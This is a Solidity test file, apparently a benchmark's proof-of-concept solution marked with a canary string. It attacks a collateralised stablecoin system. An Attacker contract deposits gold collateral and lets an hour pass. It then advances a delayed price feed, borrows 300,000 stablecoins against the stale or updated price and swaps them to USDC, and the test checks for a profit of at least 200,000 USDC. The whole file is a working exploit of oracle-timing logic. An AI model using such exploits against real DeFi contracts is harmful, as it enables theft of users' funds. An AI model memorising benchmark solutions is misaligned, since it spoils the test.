// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    bytes32 private constant GOLD_A = "GOLD-A";

    function begin(IERC20 gold, CollateralGate gate, Ledger ledger) external {
        gold.approve(address(gate), type(uint256).max);
        ledger.lock(GOLD_A, address(this), gate.deposit(500_000, address(this)));
    }

    function end(DelayedFeed feed, PriceBook book, Ledger ledger, PegModule peg) external {
        feed.advance();
        try book.update(GOLD_A) {
            ledger.draw(GOLD_A, address(this), 300_000e18, address(this));
            peg.swap_out(299_000e6, address(this));
        } catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        gold.mint(address(other), 500_000);
    }

    function exploit() public {
        other.begin(gold, gold_gate, ledger);
        vm.warp(block.timestamp + 1 hours);
        other.end(gold_feed, book, ledger, peg);
    }

    function test_Exploit() public {
        exploit();
        require(usdc.balanceOf(address(other)) >= 200_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(gold_feed);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
